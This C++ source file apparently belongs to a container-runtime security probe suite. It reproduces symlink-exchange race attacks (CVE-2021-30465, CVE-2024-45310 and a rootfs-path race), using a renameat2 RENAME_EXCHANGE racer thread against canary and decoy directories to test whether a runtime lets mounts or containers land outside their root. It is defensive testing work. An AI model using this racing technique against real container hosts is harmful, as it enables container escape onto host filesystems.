// Names exchanged while the runtime resolves them (CVE-2021-30465, CVE-2024-45310): a name in a
// shared volume keeps being exchanged between a directory and a symlink to a host canary dir
// while the runtime creates containers that mount through that name.
//
// The racer: the attacker of both CVEs is a process in another container that shares the
// volume and loops renameat2(RENAME_EXCHANGE). busybox has no way to call renameat2, and a probe
// cannot rely on a helper binary being built for the image, so the probe runs the racer itself,
// as a thread on the host, on the very same inodes of the volume (the host dir that is
// bind-mounted into the container). The kernel sees the same exchanges a container process
// would make; only the caller differs, and the host thread exchanges much faster than a shell
// loop of `mv` could, which makes the race harder, not easier, to resist.
#include <fcntl.h>
#include <stdio.h>

#include <cstdio>
#include <stdexcept>

#include <atomic>
#include <thread>

#include "probe/cases/cases.h"
#include "probe/kit.h"

namespace rampart::probe {

namespace {

class Racer {
 public:
  Racer(std::string a, std::string b) : a_(std::move(a)), b_(std::move(b)) {
    thread_ = std::thread([this] {
      while (!stop_.load(std::memory_order_relaxed)) {
        if (::renameat2(AT_FDCWD, a_.c_str(), AT_FDCWD, b_.c_str(), RENAME_EXCHANGE) == 0) ++swaps_;
        else ++errors_;
      }
    });
  }
  ~Racer() { stop(); }
  void stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }
  [[nodiscard]] long swaps() const { return swaps_; }

 private:
  std::string a_, b_;
  std::atomic<bool> stop_{false};
  std::atomic<long> swaps_{0}, errors_{0};
  std::thread thread_;
};

// vol/x is a real dir, vol/x-alt a symlink to the canary dir; the racer exchanges them.
std::string make_volume(Context& ctx, const std::string& name, const Canary& c) {
  std::string vol = ctx.workdir() + "/" + name;
  make_dir(vol + "/x");
  make_symlink(c.dir, vol + "/x-alt");
  return vol;
}

struct Tally {
  int attempts = 0, ran = 0, refused = 0;
  std::string last_err;
  std::chrono::steady_clock::time_point t0 = std::chrono::steady_clock::now();
  [[nodiscard]] std::string stats(const Racer& r) const {
    auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
    char buf[64];
    snprintf(buf, sizeof buf, "%.1f", static_cast<double>(ms) / 1000.0);
    return std::to_string(attempts) + " creates in " + buf + " s (" + std::to_string(ran) + " set up, " +
           std::to_string(refused) + " refused) while " + std::to_string(r.swaps()) + " exchanges raced";
  }
  [[nodiscard]] bool more(const Context& ctx) const {
    return attempts < ctx.race_attempts() && std::chrono::steady_clock::now() - t0 < ctx.race_budget();
  }
  [[nodiscard]] std::string last_refusal() const {
    return last_err.empty() ? "" : "; last refusal: " + squash(first_line(last_err), 120);
  }
  // The verdict once the attempts are over and nothing escaped in them: `held` says what held.
  [[nodiscard]] Outcome finish(Racer& racer, const Canary* c, const std::string& held) const {
    racer.stop();
    if (c)
      if (auto ch = c->changed(); !ch.empty()) return escaped(ch);
    if (racer.swaps() == 0) return broken("the racer could not exchange the names");
    if (ran == 0) return broken("no create succeeded: " + stats(racer) + "; last error: " + squash(first_line(last_err)));
    return resisted(stats(racer) + "; " + held + last_refusal());
  }
};

// The mount destination is the racing name itself (/vol/x). If the runtime resolves it and then
// mounts by a path string, the bind of the payload can land on the host canary dir in the
// container's mount namespace; the canary dir is bound at /seen afterwards, so the container
// would see the payload there.
Outcome exchange_mount(Context& ctx) {
  Canary c = make_canary(ctx, "race-mount-canary");
  std::string payload = make_payload(ctx, "race-mount-payload");
  std::string vol = make_volume(ctx, "race-mount-vol", c);
  Bundle b = ctx.make_bundle("race-mount");
  make_dir(b.rootfs + "/vol");
  make_dir(b.rootfs + "/seen");
  b.config["mounts"].push_back(bind_mount(vol, "/vol"));
  b.config["mounts"].push_back(bind_mount(payload, "/vol/x", true));
  b.config["mounts"].push_back(bind_mount(c.dir, "/seen", true));
  set_sh(b, "ls -a /seen /seen/sub; cat /seen/CANARY; echo; echo END");
  b.write();
  const std::string id = "race-mount";
  ctx.track(id);
  Tally t;
  Racer racer(vol + "/x", vol + "/x-alt");
  while (t.more(ctx)) {
    ++t.attempts;
    auto r = ctx.runtime_cmd({"run", "--bundle", b.dir, id});
    if (r.exit_code != 0) {
      t.last_err = r.err;
      ctx.runtime_cmd({"delete", "-f", id});
    }
    if (auto ch = c.changed(); !ch.empty()) return escaped("attempt " + std::to_string(t.attempts) + ": " + ch);
    if (r.exit_code == 0 && r.out.find("END") != std::string::npos) {
      ++t.ran;
      if (r.out.find("PAYLOAD") != std::string::npos)
        return escaped("attempt " + std::to_string(t.attempts) + ": the bind meant for /vol/x landed on the host canary dir " +
                       c.dir + " (the container sees the payload through /seen)");
      if (r.out.find(c.tok) == std::string::npos || r.out.find("SUBCANARY") == std::string::npos)
        return escaped("attempt " + std::to_string(t.attempts) + ": a mount covers the host canary dir " + c.dir);
    } else {
      ++t.refused;
    }
  }
  return t.finish(racer, &c, "no mount landed outside the root");
}

// The destination is a sub-path below the racing name (/vol/x/a/b), which does not exist yet:
// the runtime must create a/b, and must never create them through the symlink on the host.
// create + delete only: the judge is the host canary dir, which must stay as it was.
Outcome exchange_mkdir(Context& ctx) {
  Canary c = make_canary(ctx, "race-mkdir-canary");
  std::string vol = make_volume(ctx, "race-mkdir-vol", c);
  Bundle b = ctx.make_bundle("race-mkdir");
  make_dir(b.rootfs + "/vol");
  b.config["mounts"].push_back(bind_mount(vol, "/vol"));
  b.config["mounts"].push_back(tmpfs_mount("/vol/x/a/b"));
  b.config["mounts"].push_back(tmpfs_mount("/vol/x/f/g"));
  b.write();
  const std::string id = "race-mkdir";
  ctx.track(id);
  Tally t;
  Racer racer(vol + "/x", vol + "/x-alt");
  while (t.more(ctx)) {
    ++t.attempts;
    auto r = ctx.runtime_cmd({"create", "--bundle", b.dir, id});
    (r.exit_code == 0 ? t.ran : t.refused)++;
    if (r.exit_code != 0) t.last_err = r.err;
    ctx.runtime_cmd({"delete", "-f", id});
    if (auto ch = c.changed(); !ch.empty())
      return escaped("attempt " + std::to_string(t.attempts) + ": the runtime created on the host: " + ch);
  }
  return t.finish(racer, &c, "nothing was created on the host");
}

// The rootfs path checked, then resolved again: the bundle's rootfs lives at <bundle>/par/rootfs
// while the racer exchanges <bundle>/par with a symlink to a decoy tree (another busybox rootfs,
// standing for any host directory, / included). A runtime that checks the path string (realpath,
// "not /") and later mounts it by that string again can run the container in the decoy.
//
// Which tree was checked: a runtime that refuses a symlink anywhere in the rootfs path (runc)
// checked the real tree whenever it accepted the path; a runtime that resolves the path and
// reports the result in `state` (rootfs) says which one it checked. A runtime that does neither
// cannot be judged. Which tree the container got: its init, blocked on the exec fifo, shows it at
// /proc/<pid>/root.
Outcome rootfs_exchange(Context& ctx) {
  Bundle b = ctx.make_bundle("rootfs-race");
  std::string par = b.dir + "/par";
  make_dir(par);
  if (std::rename(b.rootfs.c_str(), (par + "/rootfs").c_str()) != 0) throw std::runtime_error("moving the rootfs");
  std::string real_tok = token(), decoy_tok = token();
  write_file(par + "/rootfs/MARKER", real_tok);
  Bundle decoy = ctx.make_bundle("rootfs-race-decoy");
  write_file(decoy.rootfs + "/MARKER", decoy_tok);

  auto create_and_look = [&](const std::string& id, std::string& state_rootfs, std::string& marker) {
    ctx.track(id);
    auto r = ctx.runtime_cmd({"create", "--bundle", b.dir, id});
    if (r.exit_code == 0) {
      auto st = ctx.runtime_cmd({"state", id});
      if (int pid = state_pid(st); pid > 0) {
        state_rootfs = nlohmann::json::parse(st.out).value("rootfs", "");
        marker = read_text("/proc/" + std::to_string(pid) + "/root/MARKER");
      }
    }
    ctx.runtime_cmd({"delete", "-f", id});
    return r;
  };

  // How this runtime treats a rootfs path with a symlink in it (no race yet).
  make_symlink(par, b.dir + "/par-link");
  b.config["root"]["path"] = b.dir + "/par-link/rootfs";
  b.write();
  std::string reported, marker;
  auto pre = create_and_look("rootfs-race-link", reported, marker);
  bool refuses_symlinks = pre.exit_code != 0;
  if (!refuses_symlinks && reported != par + "/rootfs")
    return skipped("the runtime accepts a rootfs path through a symlink and its state reports '" + reported +
                   "', not the tree it resolved: which tree it checked cannot be told");
  std::remove((b.dir + "/par-link").c_str());

  make_symlink(decoy.dir, b.dir + "/par-alt");
  b.config["root"]["path"] = par + "/rootfs";
  b.write();
  Tally t;
  Racer racer(par, b.dir + "/par-alt");
  while (t.more(ctx)) {
    ++t.attempts;
    reported.clear();
    marker.clear();
    auto r = create_and_look("rootfs-race", reported, marker);
    if (r.exit_code != 0) {
      ++t.refused;
      t.last_err = r.err;
      continue;
    }
    ++t.ran;
    if (marker != decoy_tok) continue;
    bool checked_real = refuses_symlinks || reported == par + "/rootfs";
    if (checked_real)
      return escaped("attempt " + std::to_string(t.attempts) + ": the runtime checked " + par +
                     "/rootfs, then the container ran in the decoy tree " + decoy.rootfs +
                     (refuses_symlinks ? " (the runtime refuses symlinked rootfs paths, so the path had none when checked)"
                                       : " (its state reports the checked rootfs " + reported + ")"));
  }
  return t.finish(racer, nullptr, "every container ran in the tree that was checked");
}

}  // namespace

std::vector<Case> race_cases() {
  return {
      {"volume-exchange-race-mount", Races, {"CVE-2021-30465"},
       "a volume name is exchanged (renameat2 RENAME_EXCHANGE) between a dir and a symlink to a host "
       "canary dir while containers that bind onto that name are created, repeatedly",
       exchange_mount},
      {"volume-exchange-race-mkdir", Races, {"CVE-2024-45310"},
       "a volume name is exchanged between a dir and a symlink to a host canary dir while containers "
       "whose mount destinations lie below that name (and must be created) are created, repeatedly",
       exchange_mkdir},
      {"rootfs-path-exchange-race", Races, {},
       "the rootfs's parent directory is exchanged with a symlink to a decoy tree while containers are created: the "
       "container must run in the tree that was checked, never the decoy",
       rootfs_exchange},
  };
}

}  // namespace rampart::probe
